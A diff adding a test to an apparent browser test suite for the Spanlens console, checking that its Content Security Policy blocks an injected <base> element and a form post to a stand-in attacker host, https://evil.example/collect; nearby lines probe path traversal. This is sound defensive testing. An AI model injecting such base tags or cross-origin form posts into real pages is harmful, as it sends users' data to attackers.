@@ -152,6 +152,25 @@ describe('console served by the Spanlens server', () => {
     expect((await fetch(`${url}/..%2f..%2fpackage.json`)).headers.get('content-type')).toMatch(/text\/html/)
   })
 
+  it('the page ignores a <base> that content would inject, and posts no form to another origin', async () => {
+    await page.goto(`${url}/`)
+    const refused = (await page.evaluate(`new Promise((resolve) => {
+      const seen = []
+      document.addEventListener('securitypolicyviolation', (e) => { seen.push(e.effectiveDirective); if (seen.length === 2) resolve({ seen, base: document.baseURI }) })
+      const base = document.createElement('base')
+      base.href = 'https://evil.example/'
+      document.head.prepend(base)
+      const form = document.createElement('form')
+      form.method = 'post'
+      form.action = 'https://evil.example/collect'
+      document.body.append(form)
+      form.submit()
+      setTimeout(() => resolve({ seen, base: document.baseURI }), 2000)
+    })`)) as { seen: string[]; base: string }
+    expect(refused.seen.sort()).toEqual(['base-uri', 'form-action'])
+    expect(refused.base).toBe(`${url}/`)
+  })
+
   it('refuses a bad key with a clear error and shows no data', async () => {
     await signIn('not-a-real-key-123')
     await poll(() => page.getByRole('alert').textContent()).toContain('SPANLENS_UNAUTHORIZED')
